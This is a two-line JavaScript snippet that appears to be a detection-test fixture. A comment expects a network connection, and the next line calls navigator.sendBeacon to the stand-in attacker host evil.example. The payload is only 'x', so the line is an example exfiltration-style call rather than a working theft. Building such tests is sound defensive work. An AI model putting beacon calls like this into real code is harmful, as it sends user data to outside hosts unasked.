// EXPECT: net.connect
navigator.sendBeacon("https://evil.example/", "x");
